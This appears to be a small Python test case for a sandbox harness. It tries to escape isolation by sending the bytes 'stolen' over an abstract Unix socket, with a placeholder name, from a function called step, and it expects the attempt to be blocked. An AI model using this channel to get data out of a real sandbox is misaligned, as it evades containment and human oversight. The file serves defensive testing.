# tries: A socket without a file, which no mount hides.
# attacks: step
# verdict: RAISED
import socket


def step(z):
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect("\0deeplearn-attack-@PORT@")
        sock.sendall(b"stolen")
